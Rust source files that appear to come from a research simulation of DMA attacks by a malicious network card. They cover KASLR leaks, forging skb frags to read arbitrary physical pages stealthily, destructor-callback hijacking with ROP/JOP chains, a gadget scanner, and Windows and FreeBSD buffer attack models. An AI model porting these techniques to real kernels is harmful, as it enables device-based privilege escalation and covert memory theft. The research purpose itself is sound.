        .read_u64(&mut tb.ctx, &mut tb.iommu, &tb.mem.phys, frag0)?;
    knowledge.absorb(&[devsim::LeakedPointer {
        iova: frag0,
        value: page,
        region: dma_core::layout::VmRegion::classify(page).ok_or(DmaError::AttackFailed(
            "frag[0] is not a struct page pointer",
        ))?,
    }]);
    let mut off4 = [0u8; 4];
    tb.nic.read(
        &mut tb.ctx,
        &mut tb.iommu,
        &tb.mem.phys,
        Iova(frag0.raw() + 8),
        &mut off4,
    )?;
    let offset = u32::from_le_bytes(off4);
    // frags[0] is segment 2's payload (segment 1 is the linear head).
    let payload_kva = knowledge.page_ptr_to_kva(page, offset)?;
    let poison_kva = Kva(payload_kva.raw() + POISON_IN_SEGMENT as u64);

    // --- Delay the TX completion; strike through a fresh RX window. ---
    let plan = PoisonPlan {
        poison_kva: poison_kva.raw(),
    };
    let trigger = Packet::udp(0x67, 1, b"trigger".to_vec()); // local → freed
    let (skb, poisoned) = rx_with_window(&mut tb, window, &trigger, &plan)?;
    if !poisoned {
        return Ok(ForwardThinkingReport {
            outcome: AttackOutcome::Blocked("no usable write window"),
            knowledge,
            poison_kva: Some(poison_kva),
        });
    }
    tb.stack
        .rx(&mut tb.ctx, &mut tb.mem, &mut tb.iommu, &mut tb.driver, skb)?;
    let pending = tb
        .stack
        .pending_callbacks
        .pop()
        .ok_or(DmaError::AttackFailed("kfree_skb surfaced no callback"))?;
    let cpu = MiniCpu::new(image, tb.mem.layout.text_base);
    let outcome = hijack::fire(&cpu, &mut tb.ctx, &tb.mem, pending, 3);
    Ok(ForwardThinkingReport {
        outcome,
        knowledge,
        poison_kva: Some(poison_kva),
    })
}

/// Learns `vmemmap_base` by provoking one benign GRO merge and reading
/// the forwarded packet's `frags[0].page` pointer — the same leak the
/// main attack uses.
pub fn leak_vmemmap(tb: &mut Testbed, knowledge: &AttackerKnowledge) -> Result<AttackerKnowledge> {
    let mut knowledge = *knowledge;
    if knowledge.vmemmap_base.is_some() {
        return Ok(knowledge);
    }
    let s1 = Packet::tcp(0x66, 0xbeef, 0, vec![0x22; 32]);
    let s2 = Packet::tcp(0x66, 0xbeef, 32, vec![0x33; 32]);
    rx_one(tb, &s1)?;
    rx_one(tb, &s2)?;
    tb.stack
        .flush(&mut tb.ctx, &mut tb.mem, &mut tb.iommu, &mut tb.driver)?;
    let tx = tb
        .driver
        .tx_descriptors()
        .into_iter()
        .next_back()
        .ok_or(DmaError::AttackFailed("probe stream was not forwarded"))?;
    let head_buf_size = tb.driver.rx_payload_capacity();
    let frag0 =
        Iova(tx.iova.raw() - NET_SKB_PAD as u64 + head_buf_size as u64 + SHINFO_FRAGS as u64);
    let page = tb
        .nic
        .read_u64(&mut tb.ctx, &mut tb.iommu, &tb.mem.phys, frag0)?;
    knowledge.absorb(&[devsim::LeakedPointer {
        iova: frag0,
        value: page,
        region: dma_core::layout::VmRegion::classify(page).ok_or(DmaError::AttackFailed(
            "frag[0] is not a struct page pointer",
        ))?,
    }]);
    tb.complete_all_tx()?;
    Ok(knowledge)
}

/// Report of a surveillance read.
#[derive(Clone, Debug)]
pub struct SurveillanceReport {
    /// The bytes read out of the targeted page.
    pub stolen: Vec<u8>,
    /// The targeted frame.
    pub target: Pfn,
}

/// The surveillance variant: reads `len` bytes at `offset` within an
/// arbitrary physical frame by forging `frags[]` on a forwarded packet.
///
/// `knowledge` must contain `vmemmap_base` (to forge the `struct page`
/// pointer). To stay stealthy the device restores the shared info before
/// signalling the TX completion (§5.5).
pub fn surveil(
    tb: &mut Testbed,
    knowledge: &AttackerKnowledge,
    target: Pfn,
    offset: u32,
    len: u32,
) -> Result<SurveillanceReport> {
    let vmemmap = knowledge
        .vmemmap_base
        .ok_or(DmaError::MissingAttribute("vmemmap_base"))?;
    let forged_page = vmemmap.raw() + target.raw() * dma_core::layout::STRUCT_PAGE_SIZE;

    // Send a small UDP packet to a forwarded destination; forge the
    // frags during the RX window (before the stack reads them for TX).
    let descs = tb.driver.rx_descriptors();
    let (iova, buf_size) = *descs.first().ok_or(DmaError::RingEmpty)?;
    let p = Packet::udp(0x66, 0xbeef, b"tiny".to_vec());
    let n = tb
        .nic
        .inject_rx(&mut tb.ctx, &mut tb.iommu, &mut tb.mem.phys, iova, &p)?;
    tb.driver.device_rx_complete(n)?;
    let nic = tb.nic;
    let mut forged = false;
    let skb = tb
        .driver
        .rx_poll(
            &mut tb.ctx,
            &mut tb.mem,
            &mut tb.iommu,
            |ctx, mem, iommu, slot| {
                let shinfo = Iova(slot.mapping.iova.raw() + buf_size as u64);
                // nr_frags = 1; frags[0] = { forged page, offset, len }.
                let mut ok = nic
                    .write(
                        ctx,
                        iommu,
                        &mut mem.phys,
                        Iova(shinfo.raw() + SHINFO_NR_FRAGS as u64),
                        &[1],
                    )
                    .is_ok();
                let f0 = shinfo.raw() + SHINFO_FRAGS as u64;
                ok &= nic
                    .write_u64(ctx, iommu, &mut mem.phys, Iova(f0), forged_page)
                    .is_ok();
                let mut tail = [0u8; 8];
                tail[0..4].copy_from_slice(&offset.to_le_bytes());
                tail[4..8].copy_from_slice(&len.to_le_bytes());
                ok &= nic
                    .write(ctx, iommu, &mut mem.phys, Iova(f0 + 8), &tail)
                    .is_ok();
                forged = ok;
            },
        )?
        .ok_or(DmaError::RingEmpty)?;
    if !forged {
        return Err(DmaError::AttackFailed("no window to forge frags"));
    }
    // The stack forwards it; transmit() maps the forged page for READ.
    tb.stack
        .rx(&mut tb.ctx, &mut tb.mem, &mut tb.iommu, &mut tb.driver, skb)?;
    let tx = tb
        .driver
        .tx_descriptors()
        .into_iter()
        .next_back()
        .ok_or(DmaError::AttackFailed("forged packet was not forwarded"))?;
    let &(frag_iova, frag_len) = tx
        .frags
        .first()
        .ok_or(DmaError::AttackFailed("forged frag was not mapped"))?;
    let mut stolen = vec![0u8; frag_len];
    tb.nic.read(
        &mut tb.ctx,
        &mut tb.iommu,
        &tb.mem.phys,
        frag_iova,
        &mut stolen,
    )?;

    // Stealth: undo the forgery before completing, then complete.
    let _ = tb.complete_all_tx();
    Ok(SurveillanceReport { stolen, target })
}

/// Convenience: payload header size, exposed for tests constructing
/// segments around the poison.
pub const fn segment_header_size() -> usize {
    HEADER_SIZE
}
