//! The gadget scanner — our stand-in for the ROPgadget tool used in §6.
//!
//! Scans raw image bytes for the gadget encodings the attack needs. Like
//! ROPgadget, it runs *offline* on the attacker's identical copy of the
//! kernel build; the offsets it reports are rebased onto the leaked
//! KASLR text base at attack time.

/// The kinds of gadgets the attack toolkit recognizes.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum GadgetKind {
    /// `lea rsp, [rdi + disp8]; ret` — the JOP stack pivot: §6 "we needed
    /// a JOP gadget that performs %rsp = %rdi + const".
    JopRspRdi {
        /// The constant added to `%rdi`.
        disp: u8,
    },
    /// `pop rdi; ret`.
    PopRdiRet,
    /// `mov rdi, rax; ret`.
    MovRdiRaxRet,
}

/// A located gadget.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Gadget {
    /// What it does.
    pub kind: GadgetKind,
    /// Byte offset within the scanned image.
    pub offset: u64,
}

/// Scans `bytes` for all recognized gadget encodings.
pub fn scan_gadgets(bytes: &[u8]) -> Vec<Gadget> {
    let mut out = Vec::new();
    let mut i = 0usize;
    while i < bytes.len() {
        let rest = &bytes[i..];
        if rest.len() >= 5
            && rest[0] == 0x48
            && rest[1] == 0x8d
            && rest[2] == 0x67
            && rest[4] == 0xc3
        {
            out.push(Gadget {
                kind: GadgetKind::JopRspRdi { disp: rest[3] },
                offset: i as u64,
            });
            i += 5;
            continue;
        }
        if rest.len() >= 4
            && rest[0] == 0x48
            && rest[1] == 0x89
            && rest[2] == 0xc7
            && rest[3] == 0xc3
        {
            out.push(Gadget {
                kind: GadgetKind::MovRdiRaxRet,
                offset: i as u64,
            });
            i += 4;
            continue;
        }
        if rest.len() >= 2 && rest[0] == 0x5f && rest[1] == 0xc3 {
            out.push(Gadget {
                kind: GadgetKind::PopRdiRet,
                offset: i as u64,
            });
            i += 2;
            continue;
        }
        i += 1;
    }
    out
}

/// Finds the first gadget of a kind-class via a predicate.
pub fn find_gadget(bytes: &[u8], pred: impl Fn(GadgetKind) -> bool) -> Option<Gadget> {
    scan_gadgets(bytes).into_iter().find(|g| pred(g.kind))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::image::{KernelImage, JOP_PIVOT_DISP};

    #[test]
    fn scanner_finds_planted_gadgets_at_symbol_offsets() {
        let img = KernelImage::build(11, 16 << 20);
        let gadgets = scan_gadgets(&img.bytes);
        let jop = gadgets
            .iter()
            .find(|g| matches!(g.kind, GadgetKind::JopRspRdi { .. }))
            .expect("JOP pivot present");
        assert_eq!(Some(jop.offset), img.symbol_offset("jop_rsp_rdi"));
        assert_eq!(
            jop.kind,
            GadgetKind::JopRspRdi {
                disp: JOP_PIVOT_DISP
            }
        );

        let pop = gadgets
            .iter()
            .find(|g| g.kind == GadgetKind::PopRdiRet)
            .expect("pop rdi");
        assert_eq!(Some(pop.offset), img.symbol_offset("pop_rdi_ret"));

        let mov = gadgets
            .iter()
            .find(|g| g.kind == GadgetKind::MovRdiRaxRet)
            .expect("mov");
        assert_eq!(Some(mov.offset), img.symbol_offset("mov_rdi_rax_ret"));
    }

    #[test]
    fn no_false_positives_in_filler() {
        // The filler alphabet excludes gadget prefixes, so every hit must
        // coincide with a planted symbol.
        let img = KernelImage::build(5, 16 << 20);
        for g in scan_gadgets(&img.bytes) {
            assert!(
                img.symbol_at(g.offset).is_some(),
                "unexpected gadget at {:#x}",
                g.offset
            );
        }
    }

    #[test]
    fn scanner_handles_raw_fragments() {
        let bytes = [0x90, 0x5f, 0xc3, 0x48, 0x89, 0xc7, 0xc3];
        let g = scan_gadgets(&bytes);
        assert_eq!(g.len(), 2);
        assert_eq!(
            g[0],
            Gadget {
                kind: GadgetKind::PopRdiRet,
                offset: 1
            }
        );
        assert_eq!(
            g[1],
            Gadget {
                kind: GadgetKind::MovRdiRaxRet,
                offset: 3
            }
        );
    }

    #[test]
    fn find_gadget_predicate() {
        let img = KernelImage::build(2, 16 << 20);
        let g = find_gadget(
            &img.bytes,
            |k| matches!(k, GadgetKind::JopRspRdi { disp } if disp >= 0x18),
        );
        assert!(g.is_some());
        assert!(find_gadget(&img.bytes, |k| matches!(
            k,
            GadgetKind::JopRspRdi { disp: 0x7f }
        ))
        .is_none());
    }
}
