//! The paper's attacks: KASLR subversion, code-injection machinery, and
//! the three *compound* attacks (§5), plus a classic single-step attack
//! as the baseline the paper contrasts against.
//!
//! - [`image`] — a synthetic kernel image: realistic instruction bytes
//!   with a symbol table, planted JOP/ROP gadgets, and `init_net`.
//! - [`gadget`] — the gadget scanner (our ROPgadget stand-in, §6):
//!   scans an image for `%rsp = %rdi + const` pivots and ROP gadgets.
//! - [`cpu`] — a mini CPU that invokes destructor callbacks with NX
//!   (W^X) enforcement and executes ROP chains with credential-function
//!   semantics, making "arbitrary code execution" observable.
//! - [`kaslr`] — derandomization from leaked pointers (§2.4): text base
//!   from the 2 MiB alignment of a leaked `init_net`, direct-map and
//!   vmemmap bases from their 1 GiB alignment.
//! - [`rop`] — poisoned-buffer construction: `ubuf_info` + ROP chain.
//! - [`hijack`] — the common final stage (Figure 4): overwrite
//!   `destructor_arg`, trigger the free, let the CPU take the bait.
//! - [`ringflood`] — §5.3: boot-determinism survey and the RingFlood
//!   compound attack.
//! - [`poisoned_tx`] — §5.4: the echoed-buffer compound attack.
//! - [`forward_thinking`] — §5.5: the GRO/forwarding compound attack and
//!   the arbitrary-page surveillance variant.
//! - [`single_step`] — the Thunderclap-style type (a) baseline.
//! - [`dos`] — §3.1/§3.2(b): freelist corruption — denial of service and
//!   the arbitrary-allocation primitive.
//! - [`tocttou`] — §8 related work: the double-fetch race on shared
//!   control structures (the Beniamini Wi-Fi attack class).
//! - [`memory_dump`] — §3.1: full physical memory exfiltration over the
//!   surveillance channel (the Inception/Volatility attack class).
//! - [`cookie`] — §7: recovering MacOS's XOR-blinded `ext_free` pointer.
//! - [`os_models`] — §7: the Windows NET_BUFFER and FreeBSD mbuf
//!   exposures as executable models.

pub mod cookie;
pub mod cpu;
pub mod dos;
pub mod forward_thinking;
pub mod gadget;
pub mod hijack;
pub mod image;
pub mod kaslr;
pub mod memory_dump;
pub mod os_models;
pub mod poisoned_tx;
pub mod ringflood;
pub mod rop;
pub mod single_step;
pub mod tocttou;
pub mod window;

pub use cpu::{CpuOutcome, MiniCpu};
pub use gadget::{scan_gadgets, Gadget, GadgetKind};
pub use image::KernelImage;
pub use kaslr::AttackerKnowledge;
pub use rop::PoisonedBuffer;
