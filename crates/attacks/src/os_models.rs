//! §7 — applicability to other OSs, as executable models.
//!
//! - **Windows**: Kernel DMA Protection gives per-device page tables and
//!   dedicated network pools, yet `NdisAllocateNetBufferMdlAndData`
//!   "allocates a NET_BUFFER structure and data in a single memory
//!   buffer, exposing the OS to single-step attacks" — the NET_BUFFER
//!   vulnerability of Markettos et al.
//! - **FreeBSD**: the `mbuf`'s `ext_free` callback pointer is exposed
//!   unblinded; "this vulnerability still exists in the FreeBSD kernel".
//! - **MacOS** blinds `ext_free` with a XOR cookie — see
//!   [`crate::cookie`] for its recovery.

use crate::cpu::MiniCpu;
use crate::image::KernelImage;
use crate::kaslr::AttackerKnowledge;
use crate::rop::PoisonedBuffer;
use devsim::MaliciousNic;
use dma_core::vuln::{AttackOutcome, DmaDirection};
use dma_core::{Iova, Kva, Result, SimCtx};
use sim_iommu::{dma_map_single, DmaMapping, Iommu};
use sim_mem::MemorySystem;

/// Layout of the Windows-style combined allocation
/// (`NdisAllocateNetBufferMdlAndData`): NET_BUFFER header, MDL, then the
/// packet data — one buffer, one page, one mapping.
pub mod net_buffer {
    /// Offset of the NET_BUFFER's `MiniportReserved` completion pointer
    /// (the control-flow target the attack overwrites).
    pub const COMPLETION_PTR: usize = 48;
    /// Offset of the MDL.
    pub const MDL: usize = 96;
    /// Offset of the packet data the NIC legitimately writes.
    pub const DATA: usize = 160;
    /// Total allocation size.
    pub const SIZE: usize = 2048;
}

/// Allocates a Windows-style combined NET_BUFFER+data and maps the
/// *data* for the device — which, at page granularity, maps the headers
/// too.
pub fn ndis_allocate_net_buffer_mdl_and_data(
    ctx: &mut SimCtx,
    mem: &mut MemorySystem,
    iommu: &mut Iommu,
    image: &KernelImage,
    dev: u32,
) -> Result<(Kva, DmaMapping)> {
    let nb = mem.kzalloc(ctx, net_buffer::SIZE, "NdisAllocateNetBufferMdlAndData")?;
    // A benign completion handler pointer.
    let handler = image
        .symbol_addr("sock_zerocopy_callback", mem.layout.text_base)
        .expect("symbol present");
    mem.cpu_write_u64(
        ctx,
        Kva(nb.raw() + net_buffer::COMPLETION_PTR as u64),
        handler.raw(),
        "ndis_init",
    )?;
    // Map the data region for RX; the page carries the whole NET_BUFFER.
    let mapping = dma_map_single(
        ctx,
        iommu,
        &mem.layout,
        dev,
        Kva(nb.raw() + net_buffer::DATA as u64),
        net_buffer::SIZE - net_buffer::DATA,
        DmaDirection::FromDevice,
        "ndis_map_data",
    )?;
    Ok((nb, mapping))
}

/// The Windows single-step attack: everything needed is on the one page.
pub fn attack_net_buffer(
    ctx: &mut SimCtx,
    mem: &mut MemorySystem,
    iommu: &mut Iommu,
    image: &KernelImage,
    nic: &MaliciousNic,
    nb: Kva,
    mapping: &DmaMapping,
) -> Result<AttackOutcome> {
    // The data IOVA's page offset pins the NET_BUFFER base on the page.
    let page_iova = Iova(mapping.iova.raw() - net_buffer::DATA as u64);
    // The attacker needs a text leak for gadgets; the completion pointer
    // itself provides it — but WRITE-only RX mappings cannot be read, so
    // the realistic rig scans a readable mapping elsewhere. Here we model
    // the already-broken-KASLR state.
    let knowledge = AttackerKnowledge {
        text_base: Some(mem.layout.text_base),
        page_offset_base: Some(mem.layout.page_offset_base),
        vmemmap_base: Some(mem.layout.vmemmap_base),
    };
    let poison = PoisonedBuffer::build(image, &knowledge)?;
    // Deposit the chain in the data region and redirect the completion
    // pointer at the JOP pivot.
    nic.deposit(
        ctx,
        iommu,
        &mut mem.phys,
        Iova(page_iova.raw() + net_buffer::DATA as u64),
        0,
        &poison.bytes,
    )?;
    let jop = knowledge.rebase(image.symbol_offset("jop_rsp_rdi").expect("symbol"))?;
    nic.write_u64(
        ctx,
        iommu,
        &mut mem.phys,
        Iova(page_iova.raw() + net_buffer::COMPLETION_PTR as u64),
        jop.raw(),
    )?;

    // Windows completes the NET_BUFFER: reads the handler from memory and
    // calls it with the data pointer.
    let handler = mem.cpu_read_u64(
        ctx,
        Kva(nb.raw() + net_buffer::COMPLETION_PTR as u64),
        "ndis_complete",
    )?;
    let cpu = MiniCpu::new(image, mem.layout.text_base);
    Ok(crate::hijack::fire(
        &cpu,
        ctx,
        mem,
        sim_net::skb::PendingCallback {
            callback: Kva(handler),
            arg: Kva(nb.raw() + net_buffer::DATA as u64),
        },
        1,
    ))
}

/// FreeBSD-style mbuf: the `ext_free` callback is stored unblinded in
/// the externally-visible mbuf header. Returns (mbuf KVA, mapping,
/// ext_free offset).
pub fn freebsd_mbuf(
    ctx: &mut SimCtx,
    mem: &mut MemorySystem,
    iommu: &mut Iommu,
    image: &KernelImage,
    dev: u32,
) -> Result<(Kva, DmaMapping, usize)> {
    const EXT_FREE: usize = 56;
    let mbuf = mem.kzalloc(ctx, 256, "m_get")?;
    let ext_free = image
        .symbol_addr("nvme_fc_fcpio_done", mem.layout.text_base)
        .expect("stand-in ext_free");
    mem.cpu_write_u64(
        ctx,
        Kva(mbuf.raw() + EXT_FREE as u64),
        ext_free.raw(),
        "mbuf_init",
    )?;
    let mapping = dma_map_single(
        ctx,
        iommu,
        &mem.layout,
        dev,
        mbuf,
        256,
        DmaDirection::Bidirectional,
        "bus_dmamap_load",
    )?;
    Ok((mbuf, mapping, EXT_FREE))
}

#[cfg(test)]
mod tests {
    use super::*;
    use dma_core::layout::VmRegion;
    use sim_iommu::{InvalidationMode, IommuConfig};
    use sim_mem::MemConfig;

    fn setup() -> (SimCtx, MemorySystem, Iommu, KernelImage, MaliciousNic) {
        let mut ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig {
            kaslr_seed: Some(4),
            ..Default::default()
        });
        let image = KernelImage::build(1, 16 << 20);
        mem.install_text(&image.bytes);
        let mut iommu = Iommu::new(IommuConfig {
            mode: InvalidationMode::Strict,
            ..Default::default()
        });
        iommu.attach_device(7);
        let _ = &mut ctx;
        (ctx, mem, iommu, image, MaliciousNic::new(7))
    }

    #[test]
    fn windows_net_buffer_single_step_escalates() {
        // §7: "exposing the OS to single-step attacks".
        let (mut ctx, mut mem, mut iommu, image, nic) = setup();
        let (nb, mapping) =
            ndis_allocate_net_buffer_mdl_and_data(&mut ctx, &mut mem, &mut iommu, &image, 7)
                .unwrap();
        let outcome =
            attack_net_buffer(&mut ctx, &mut mem, &mut iommu, &image, &nic, nb, &mapping).unwrap();
        assert!(outcome.succeeded(), "{outcome:?}");
    }

    #[test]
    fn separated_allocation_blocks_the_same_attack() {
        // The fix Windows' dedicated pools aim for: headers and data on
        // different pages. The completion pointer is out of DMA reach.
        let (mut ctx, mut mem, mut iommu, image, nic) = setup();
        let nb = mem.kzalloc(&mut ctx, 256, "net_buffer_hdr").unwrap();
        // Push the data allocation onto a different page.
        let _spacer = mem.kmalloc(&mut ctx, 4096, "pad").unwrap();
        let data = mem.kzalloc(&mut ctx, 2048, "net_buffer_data").unwrap();
        assert_ne!(nb.page_align_down(), data.page_align_down());
        let m = dma_map_single(
            &mut ctx,
            &mut iommu,
            &mem.layout,
            7,
            data,
            2048,
            DmaDirection::FromDevice,
            "m",
        )
        .unwrap();
        let handler_off = nb.raw() + net_buffer::COMPLETION_PTR as u64;
        // Any attempt to reach the header from the data mapping faults.
        let delta = handler_off.wrapping_sub(data.raw());
        let res = nic.write_u64(
            &mut ctx,
            &mut iommu,
            &mut mem.phys,
            Iova(m.iova.raw().wrapping_add(delta)),
            0xbad,
        );
        assert!(res.is_err(), "header page must be unreachable");
        let _ = image;
    }

    #[test]
    fn freebsd_mbuf_leaks_ext_free_in_the_clear() {
        // §7: FreeBSD's exposed ext_free gives away the text base in one
        // read — no cookie to recover.
        let (mut ctx, mut mem, mut iommu, image, nic) = setup();
        let (_mbuf, mapping, ext_free_off) =
            freebsd_mbuf(&mut ctx, &mut mem, &mut iommu, &image, 7).unwrap();
        let leaked = nic
            .read_u64(
                &mut ctx,
                &mut iommu,
                &mem.phys,
                Iova(mapping.iova.raw() + ext_free_off as u64),
            )
            .unwrap();
        assert_eq!(VmRegion::classify(leaked), Some(VmRegion::KernelText));
        let base = leaked - image.symbol_offset("nvme_fc_fcpio_done").unwrap();
        assert_eq!(base, mem.layout.text_base.raw(), "one read breaks KASLR");
        // And it is writable, too: the classic Thunderclap overwrite.
        nic.write_u64(
            &mut ctx,
            &mut iommu,
            &mut mem.phys,
            Iova(mapping.iova.raw() + ext_free_off as u64),
            0x4141,
        )
        .unwrap();
    }
}
